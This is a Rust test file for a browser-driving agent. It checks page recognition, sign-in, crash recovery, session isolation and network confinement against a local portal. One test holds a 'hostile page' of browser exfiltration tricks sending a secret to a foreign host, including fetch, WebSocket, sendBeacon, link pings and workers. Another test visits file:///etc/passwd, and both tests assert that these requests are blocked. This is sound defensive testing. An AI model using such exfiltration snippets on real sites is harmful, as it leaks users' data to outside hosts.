//! The driver against a real browser and a portal of a few pages.

use std::time::Duration;

use agent::driver::{Driver as _, DriverError};
use agent::gate::Shut;
use domain::secret::Secret;
use script::command::{Act, Condition, Deed, Left, Observation, Popups, Problem, Recogniser, Watch};
use tokio::time::timeout;
use url::Url;

use crate::world::Portal;
use crate::world::process::{browser_in, renderers_in, signal_to};
use rustix::process::Signal;

const LOGIN: &str = r#"<form action="/submit/home" method="post">
    <input id="user" name="user"><input id="password" name="password" type="password">
    <button id="go">Sign in</button></form>"#;

fn visible(page: &str, selector: &str) -> Recogniser {
    Recogniser { page: page.into(), conditions: vec![Condition::Visible(selector.into())] }
}

fn watch(pages: Vec<Recogniser>) -> Watch {
    Watch { pages, busy: Vec::new(), left: None, popups: Popups::Close, patience_ms: 5_000 }
}

fn fill(into: &str, text: &str) -> Act {
    Act::Fill { into: into.into(), text: Secret::new(text.into()) }
}

fn deed(acts: &[Act], region: &[&str]) -> Deed {
    Deed { acts: acts.to_vec(), region: region.iter().map(|css| (*css).to_owned()).collect() }
}

fn click(target: &str) -> Act {
    Act::Click { target: target.into() }
}

fn at(base: &Url, path: &str) -> Url {
    base.join(path).expect("a url")
}

/// The outline of an observation, without the document.
fn outline(observation: &Observation) -> String {
    match observation {
        Observation::Recognised { page, url, .. } => format!("{page} at {}", url.path()),
        Observation::Unrecognised { still, .. } => format!("nothing, still {still:?}"),
        Observation::Stuck { target, problem, .. } => format!("stuck at {target}: {problem:?}"),
        other => format!("{other:?}"),
    }
}

struct Stage {
    folder: tempfile::TempDir,
    browsers: agent::cdp::Browsers,
    portal: Portal,
    base: Url,
    session: agent::cdp::Session,
}

impl Stage {
    async fn new(portal: Portal) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let browsers = crate::world::browsers(folder.path());
        let base = portal.serve().await;
        let session = crate::world::session(&browsers, &base, &[], crate::world::open_gate()).await;
        Self { folder, browsers, portal, base, session }
    }

    async fn visit(&mut self, path: &str) -> String {
        let url = at(&self.base, path);
        outline(&self.session.visit(&url).await.expect("an observation"))
    }

    async fn watch(&mut self, what: &Watch) -> String {
        outline(&self.session.watch(what).await.expect("an observation"))
    }

    async fn act(&mut self, acts: &[Act]) -> String {
        outline(&self.session.act(&deed(acts, &[])).await.expect("an observation"))
    }

    /// The same where a part of the page tells one state of it from the next.
    async fn act_on(&mut self, region: &str, acts: &[Act]) -> String {
        outline(&self.session.act(&deed(acts, &[region])).await.expect("an observation"))
    }

    async fn end(self) {
        drop(self.session);
        self.browsers.end().await;
    }
}

#[tokio::test]
async fn a_sign_in_is_seen_through() {
    let portal = Portal::default().page("login", LOGIN).page("home", "<h1 id=home>Welcome</h1>");
    let mut stage = Stage::new(portal).await;
    let pages = vec![visible("home", "#home"), visible("login", "#password")];
    assert_eq!(stage.visit("login").await, "Visited");
    assert_eq!(stage.watch(&watch(pages.clone())).await, "login at /login");
    let acts = [fill("#user", "clerk"), fill("#password", "An&chor 7"), click("#go")];
    assert_eq!(stage.act(&acts).await, "Acted");
    let left = Some(Left { page: "login".into() });
    let after = Watch { left, ..watch(pages) };
    assert_eq!(stage.watch(&after).await, "home at /submit/home");
    let asked = stage.portal.asked();
    assert_eq!(asked.last().map(String::as_str), Some("POST home user=clerk&password=An%26chor+7"));
    stage.end().await;
}

#[tokio::test]
async fn what_cannot_be_reached_says_why() {
    let mut stage = Stage::new(Portal::default()).await;
    assert_eq!(stage.visit("status/503").await, "Visited");
    assert_eq!(stage.watch(&watch(vec![visible("page", "body")])).await, "page at /status/503");
    assert_eq!(stage.watch(&watch(vec![visible("other", "#other")])).await, "Unreachable(Status(503))");
    assert_eq!(stage.visit("empty/502").await, "Visited");
    assert_eq!(stage.watch(&watch(vec![visible("other", "#other")])).await, "Unreachable(Status(502))");
    assert_eq!(stage.visit("missing").await, "Visited");
    assert_eq!(stage.visit("to?http://elsewhere.example/").await, "Unreachable(Forbidden)");
    assert_eq!(stage.visit("http://elsewhere.example/").await, "Unreachable(Forbidden)");
    assert_eq!(stage.visit("file:///etc/passwd").await, "Unreachable(Forbidden)");
    let closed = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = closed.local_addr().expect("an address").port();
    drop(closed);
    let refused = format!("http://127.0.0.1:{port}/");
    assert_eq!(stage.visit(&refused).await, "Unreachable(Reset)");
    // A server that speaks no TLS.
    let port = stage.base.port().expect("a port");
    assert_eq!(stage.visit(&format!("https://127.0.0.1:{port}/")).await, "Unreachable(Tls)");
    stage.end().await;
}

#[tokio::test]
async fn acts_say_why_they_are_stuck() {
    let body = "<button class=twice>a</button><button class=twice>b</button>\
        <button id=off disabled>c</button><input id=hidden style='display:none'>";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    stage.visit("page").await;
    for (selector, problem) in [
        ("#none", Problem::Missing),
        (".twice", Problem::Ambiguous),
        ("#off", Problem::NotActionable),
        ("#hidden", Problem::NotActionable),
    ] {
        let expected = format!("stuck at {selector}: {problem:?}");
        assert_eq!(stage.act(&[click(selector)]).await, expected);
    }
    stage.end().await;
}

#[tokio::test]
async fn a_page_shows_once_it_is_visible_and_nothing_is_busy() {
    let body = "<div id=busy>wait</div><p id=a style='display:none'>A</p>\
        <script>setTimeout(() => { a.style.display = 'block' }, 200);\
        setTimeout(() => busy.remove(), 600);</script>";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    stage.visit("page").await;
    let begun = tokio::time::Instant::now();
    let what = Watch { busy: vec!["#busy".into()], ..watch(vec![visible("a", "#a")]) };
    assert_eq!(stage.watch(&what).await, "a at /page");
    assert!(begun.elapsed().as_millis() >= 500, "{:?}", begun.elapsed());
    stage.end().await;
}

#[tokio::test]
async fn a_page_that_was_acted_on_counts_once_its_region_is_another() {
    // The second click changes nothing.
    let body = "<div id=rows>one</div><button id=next onclick=\"rows.textContent = 'two'\">\
        next</button><button id=idle>idle</button>";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    stage.visit("page").await;
    let pages = vec![visible("rows", "#rows")];
    assert_eq!(stage.watch(&watch(pages.clone())).await, "rows at /page");
    let left = Some(Left { page: "rows".into() });
    let after = Watch { left, patience_ms: 700, ..watch(pages) };
    assert_eq!(stage.act_on("#rows", &[click("#next")]).await, "Acted");
    assert_eq!(stage.watch(&after).await, "rows at /page");
    assert_eq!(stage.act_on("#rows", &[click("#idle")]).await, "Acted");
    assert_eq!(stage.watch(&after).await, "nothing, still Some(\"rows\")");
    stage.end().await;
}

#[tokio::test]
async fn a_page_that_was_left_and_came_back_counts_again() {
    let body = "<div id=rows>one</div><button id=next onclick=\"rows.hidden = true;\
        setTimeout(() => { rows.hidden = false }, 200)\">next</button>";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    stage.visit("page").await;
    let pages = vec![visible("rows", "#rows")];
    assert_eq!(stage.watch(&watch(pages.clone())).await, "rows at /page");
    assert_eq!(stage.act(&[click("#next")]).await, "Acted");
    let left = Some(Left { page: "rows".into() });
    assert_eq!(stage.watch(&Watch { left, ..watch(pages) }).await, "rows at /page");
    stage.end().await;
}

#[tokio::test]
async fn the_same_page_in_another_document_counts_again() {
    let mut stage = Stage::new(Portal::default().page("page", "<a id=next href=/page>next</a>")).await;
    stage.visit("page").await;
    let pages = vec![visible("page", "#next")];
    assert_eq!(stage.watch(&watch(pages.clone())).await, "page at /page");
    assert_eq!(stage.act(&[click("#next")]).await, "Acted");
    let left = Some(Left { page: "page".into() });
    assert_eq!(stage.watch(&Watch { left, ..watch(pages) }).await, "page at /page");
    assert_eq!(stage.portal.asked().len(), 2);
    stage.end().await;
}

#[tokio::test]
async fn conditions_mean_what_they_say() {
    let body = "<h1>Your\n  <b>Accounts</b></h1><p style='visibility:hidden' id=ghost>Ghost</p>\
        <p id=faint style='opacity:0'>Faint</p>";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    stage.visit("page#top").await;
    let text = |within: &str, contains: &str| Condition::Text { within: within.into(), contains: contains.into() };
    for (condition, expected) in [
        (text("h1", "your accounts"), true),
        (text("h1", "accounts your"), false),
        (text("body", "ghost"), false),
        (Condition::Visible("h1".into()), true),
        (Condition::Visible("#ghost".into()), false),
        (Condition::Visible("#faint".into()), false),
        (Condition::Absent("#ghost".into()), true),
        (Condition::Absent("h1".into()), false),
        (Condition::Url("/page#t".into()), true),
        (Condition::Url("/other".into()), false),
        (Condition::Visible("h1 >>> b".into()), true),
        (Condition::Visible("h1 >>> i".into()), false),
        (Condition::Visible("h1 /deep/ b".into()), false),
    ] {
        let page = Recogniser { page: "page".into(), conditions: vec![condition.clone()] };
        let seen = stage.watch(&Watch { patience_ms: 100, ..watch(vec![page]) }).await;
        assert_eq!(seen.starts_with("page at"), expected, "{condition:?}: {seen}");
    }
    stage.end().await;
}

#[tokio::test]
async fn nothing_of_a_page_reaches_another_host() {
    let stolen = Portal::default().page("leak", "");
    let foreign = stolen.serve().await;
    let port = foreign.port().expect("a port");
    // The same server under its address would be allowed; under another name it isn't.
    let body = LEAKS.replace("PORT", &port.to_string());
    let portal = Portal::default().page("page", &body).page("own", "").page("worker", WORKER);
    let mut stage = Stage::new(portal).await;
    assert_eq!(stage.visit(&format!("page?{port}")).await, "Visited");
    assert_eq!(stage.watch(&watch(vec![visible("done", "#done")])).await, "done at /page");
    assert!(stage.portal.asked().contains(&"GET own".to_owned()), "{:?}", stage.portal.asked());
    assert_eq!(stolen.asked(), Vec::<String>::new());
    stage.end().await;
}

/// What a hostile page may try.
const LEAKS: &str = r#"
    <img src="http://localhost:PORT/leak"><iframe src="http://localhost:PORT/leak"></iframe>
    <link rel="prefetch" href="http://localhost:PORT/leak">
    <link rel="stylesheet" href="http://localhost:PORT/leak">
    <a id="ping" href="/own" ping="http://localhost:PORT/leak" target="_blank">x</a>
    <script>
      const to = "http://localhost:PORT/leak";
      const tries = [
        () => fetch(to, { mode: "no-cors" }),
        () => new Promise((resolve) => {
          const socket = new WebSocket(to.replace("http", "ws"));
          socket.onclose = socket.onopen = resolve;
        }),
        () => navigator.sendBeacon(to, "secret"),
        () => window.open(to),
        () => ping.click(),
        () => fetch("/own"),
        () => navigator.serviceWorker?.register("/script/worker?PORT"),
        () => new Promise((resolve) => {
          const source = `fetch("${to}", { mode: "no-cors" }).finally(() => postMessage(1))`;
          const worker = new Worker(URL.createObjectURL(new Blob([source])));
          worker.onmessage = resolve;
        }),
      ];
      Promise.allSettled(tries.map((attempt) => Promise.resolve().then(attempt)))
        .then(() => new Promise((resolve) => setTimeout(resolve, 500)))
        .then(() => document.body.insertAdjacentHTML("beforeend", "<p id=done>done</p>"));
    </script>"#;
const WORKER: &str = "fetch('http://localhost:' + location.search.slice(1) + '/leak')";

#[tokio::test]
async fn dialogs_and_windows_do_not_stop_a_page() {
    let body = "<button id=go onclick=\"alert('a'); confirm('b') || prompt('c');\
        window.open('/page'); window.open('/page', '_blank', 'noopener');\
        document.body.append(Object.assign(document.createElement('p'), { id: 'after', textContent: 'x' }))\
        \">go</button><script>onbeforeunload = (event) => event.preventDefault()</script>";
    let portal = Portal::default().page("page", body).page("other", "<h1>Other</h1>");
    let mut stage = Stage::new(portal).await;
    stage.visit("page").await;
    assert_eq!(stage.act(&[click("#go")]).await, "Acted");
    assert_eq!(stage.watch(&watch(vec![visible("after", "#after")])).await, "after at /page");
    assert_eq!(stage.visit("other").await, "Visited");
    assert_eq!(stage.watch(&watch(vec![visible("other", "h1")])).await, "other at /other");
    stage.end().await;
}

#[tokio::test]
async fn a_portal_that_goes_away_in_mid_run_is_unreachable() {
    let body = "<form action=/missing><button id=gone>x</button></form>\
        <a id=off href='http://127.0.0.1:1/'>y</a>";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    let nothing = watch(vec![visible("never", "#never")]);
    stage.visit("page").await;
    assert_eq!(stage.act(&[click("#gone")]).await, "Acted");
    assert_eq!(stage.watch(&nothing).await, "Unreachable(Status(404))");
    stage.visit("page").await;
    assert_eq!(stage.act(&[click("#off")]).await, "Acted");
    let begun = tokio::time::Instant::now();
    let seen = stage.watch(&nothing).await;
    assert!(seen.starts_with("Unreachable"), "{seen}");
    assert!(begun.elapsed().as_secs() < 3, "{:?}", begun.elapsed());
    stage.end().await;
}

#[tokio::test]
async fn sessions_share_a_browser_and_nothing_else() {
    let body = "<script>document.cookie = 'a=1; path=/'</script><p id=seen></p>\
        <script>seen.textContent = localStorage.getItem('b') ?? 'nothing'; localStorage.setItem('b', 'kept')</script>";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    stage.visit("page").await;
    let mut other = crate::world::session(&stage.browsers, &stage.base, &[], crate::world::open_gate()).await;
    other.visit(&at(&stage.base, "page")).await.expect("an observation");
    let text = Condition::Text { within: "#seen".into(), contains: "nothing".into() };
    let page = Recogniser { page: "empty".into(), conditions: vec![text] };
    let seen = other.watch(&watch(vec![page])).await.expect("an observation");
    assert_eq!(outline(&seen), "empty at /page");
    // The end of one is not the end of the other.
    other.ending().end().await;
    assert!(other.visit(&at(&stage.base, "page")).await.is_err());
    assert_eq!(stage.visit("page").await, "Visited");
    stage.end().await;
}

#[tokio::test]
async fn a_shut_gate_lets_no_verb_through() {
    let gate = crate::world::open_gate();
    let folder = tempfile::tempdir().expect("a folder");
    let browsers = crate::world::browsers(folder.path());
    let portal = Portal::default().page("page", "<button id=go>go</button>");
    let base = portal.serve().await;
    let mut session = crate::world::session(&browsers, &base, &[], gate.clone()).await;
    session.visit(&at(&base, "page")).await.expect("an observation");
    gate.shut(Shut::Lost);
    let lost = Some(DriverError::Shut(Shut::Lost));
    assert_eq!(session.visit(&at(&base, "page")).await.err(), lost);
    assert_eq!(session.watch(&watch(vec![visible("go", "#go")])).await.err(), lost);
    assert_eq!(session.act(&deed(&[click("#go")], &[])).await.err(), lost);
    assert_eq!(portal.asked().len(), 1, "{:?}", portal.asked());
    browsers.end().await;
}

#[tokio::test]
async fn a_page_that_hangs_is_a_crash_and_does_no_harm_to_others() {
    let hang = "<button id=go onclick='for (;;) {}'>go</button>";
    let portal = Portal::default().page("page", "<h1>Page</h1>").page("hang", hang);
    let mut stage = Stage::new(portal).await;
    let mut other = crate::world::session(&stage.browsers, &stage.base, &[], crate::world::open_gate()).await;
    other.visit(&at(&stage.base, "hang")).await.expect("an observation");
    let pid = stage.browsers.pid().await;
    assert_eq!(other.act(&deed(&[click("#go")], &[])).await.err(), Some(DriverError::Crashed));
    other.ending().end().await;
    assert_eq!(stage.visit("page").await, "Visited");
    assert_eq!(stage.browsers.pid().await, pid, "the browser is another");
    stage.end().await;
}

#[tokio::test]
async fn a_page_whose_process_dies_is_a_crash_and_does_no_harm_to_others() {
    let mut stage = Stage::new(Portal::default().page("page", "<h1>Page</h1>")).await;
    let folder = stage.folder.path().to_owned();
    stage.visit("page").await;
    let before = renderers_in(&folder);
    let mut other = crate::world::session(&stage.browsers, &stage.base, &[], crate::world::open_gate()).await;
    other.visit(&at(&stage.base, "page")).await.expect("an observation");
    let nothing = watch(vec![visible("never", "#never")]);
    let kill = async {
        for pid in renderers_in(&folder).into_iter().filter(|pid| !before.contains(pid)) {
            signal_to(pid, Signal::KILL);
        }
    };
    let (seen, ()) = tokio::join!(other.watch(&nothing), kill);
    assert_eq!(seen.err(), Some(DriverError::Crashed));
    assert_eq!(stage.visit("page").await, "Visited");
    stage.end().await;
}

#[tokio::test]
async fn a_browser_that_froze_while_idle_is_replaced() {
    let mut stage = Stage::new(Portal::default().page("page", "<h1>Page</h1>")).await;
    stage.session.ending().end().await;
    let frozen = stage.browsers.pid().await;
    browser_in(stage.folder.path()).iter().for_each(|&pid| signal_to(pid, Signal::STOP));
    let begun = tokio::time::Instant::now();
    stage.session = crate::world::session(&stage.browsers, &stage.base, &[], crate::world::open_gate()).await;
    assert!(begun.elapsed().as_secs() < 10, "{:?}", begun.elapsed());
    assert_ne!(stage.browsers.pid().await, frozen);
    assert_eq!(stage.visit("page").await, "Visited");
    stage.end().await;
}

#[tokio::test]
async fn a_browser_that_is_slow_to_close_a_session_does_no_harm_to_others() {
    let mut stage = Stage::new(Portal::default().page("page", "<h1>Page</h1>")).await;
    let other = crate::world::session(&stage.browsers, &stage.base, &[], crate::world::open_gate()).await;
    let slow = stage.browsers.pid().await;
    let processes = browser_in(stage.folder.path());
    let ending = other.ending();
    processes.iter().for_each(|&pid| signal_to(pid, Signal::STOP));
    let mut end = std::pin::pin!(ending.end());
    let ended = timeout(Duration::from_millis(1_500), end.as_mut()).await;
    assert!(ended.is_err(), "a stopped browser closed a session");
    processes.iter().for_each(|&pid| signal_to(pid, Signal::CONT));
    end.await;
    assert_eq!(stage.visit("page").await, "Visited");
    // It is left alone, and gets no further session.
    let _new = crate::world::session(&stage.browsers, &stage.base, &[], crate::world::open_gate()).await;
    assert_ne!(stage.browsers.pid().await, slow);
    assert_eq!(stage.visit("page").await, "Visited");
    stage.end().await;
}

#[tokio::test]
async fn names_that_a_page_gives_to_its_elements_change_nothing() {
    let body = "<div id=bursar></div><img name=querySelectorAll><img name=documentElement>\
        <img name=readyState><img name=addEventListener>\
        <form id=form onsubmit='return false'><input name=getClientRects><input name=checkVisibility>\
        <input name=matches><input name=closest><input name=textContent><input name=innerText>\
        <input name=dispatchEvent><input name=scrollIntoView><input name=outerHTML>\
        <p id=rows>one</p><input id=user><button id=next onclick=\"rows.innerHTML = user.value\">\
        next</button></form>";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    assert_eq!(stage.visit("page").await, "Visited");
    let text = Condition::Text { within: "#form".into(), contains: "next".into() };
    let pages = vec![Recogniser { page: "rows".into(), conditions: vec![Condition::Visible("#form".into()), text] }];
    assert_eq!(stage.watch(&watch(pages.clone())).await, "rows at /page");
    assert_eq!(stage.act_on("#rows", &[fill("#user", "two"), click("#next")]).await, "Acted");
    let left = Some(Left { page: "rows".into() });
    let after = Watch { left, ..watch(pages) };
    assert_eq!(stage.watch(&after).await, "rows at /page");
    assert_eq!(stage.act_on("#rows", &[click("#form")]).await, "Acted");
    assert_eq!(stage.watch(&Watch { patience_ms: 500, ..after }).await, "nothing, still Some(\"rows\")");
    stage.end().await;
}

#[tokio::test]
async fn an_act_runs_nothing_of_the_page_again() {
    let body = "<div id=loads></div><button id=go>go</button><script>\
        class Thing extends HTMLElement { constructor() { super(); loads.append('x') } }\
        customElements.define('a-thing', Thing)</script><a-thing></a-thing>\
        <img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=\"loads.append('x')\"\
        onerror=\"loads.append('x')\">";
    let mut stage = Stage::new(Portal::default().page("page", body)).await;
    stage.visit("page").await;
    let text = |contains: &str| Condition::Text { within: "#loads".into(), contains: contains.into() };
    let page = |name: &str, times: &str| Recogniser { page: name.into(), conditions: vec![text(times)] };
    assert_eq!(stage.watch(&watch(vec![page("loaded", "xx")])).await, "loaded at /page");
    assert_eq!(stage.act(&[click("#go")]).await, "Acted");
    let again = Watch { patience_ms: 500, ..watch(vec![page("again", "xxx")]) };
    assert_eq!(stage.watch(&again).await, "nothing, still None");
    stage.end().await;
}

#[tokio::test]
async fn a_passage_that_goes_on_by_itself_is_recognised_once() {
    let wait = "<h1 id=wait>Wait</h1><script>setTimeout(() => location = '/home', 700)</script>";
    let portal = Portal::default().page("login", "<a id=go href=/wait>go</a>").page("wait", wait);
    let mut stage = Stage::new(portal.page("home", "<h1 id=home>Home</h1>")).await;
    stage.visit("login").await;
    let pages = vec![visible("login", "#go"), visible("wait", "#wait"), visible("home", "#home")];
    let after = |page: &str| Watch { left: Some(Left { page: page.into() }), ..watch(pages.clone()) };
    assert_eq!(stage.watch(&watch(pages.clone())).await, "login at /login");
    assert_eq!(stage.act(&[click("#go")]).await, "Acted");
    assert_eq!(stage.watch(&after("login")).await, "wait at /wait");
    assert_eq!(stage.watch(&after("wait")).await, "home at /home");
    stage.end().await;
}

#[tokio::test]
async fn a_page_that_doesnt_come_is_the_portals_doing_and_not_the_browsers() {
    let mut stage = Stage::new(Portal::default().page("login", "<a id=go href=/never>go</a>")).await;
    stage.visit("login").await;
    assert_eq!(stage.act(&[click("#go")]).await, "Acted");
    let pages = Watch { patience_ms: 500, ..watch(vec![visible("home", "#home")]) };
    assert_eq!(stage.watch(&pages).await, "Unreachable(Timeout)");
    stage.end().await;
}
